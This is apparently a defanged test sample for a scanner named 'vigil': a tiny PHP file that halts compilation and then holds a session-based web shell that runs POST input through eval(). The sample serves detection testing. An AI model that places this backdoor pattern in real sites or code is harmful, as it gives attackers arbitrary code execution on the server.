<?php
/* DEFANGED vigil test sample (see README). __halt_compiler() stops PHP here: nothing below runs. */
__halt_compiler();
<?php
session_start();
if (isset($_POST['p'])) { $_SESSION['code'] = $_POST['p']; }
if (isset($_SESSION['code'])) { eval($_SESSION['code']); }
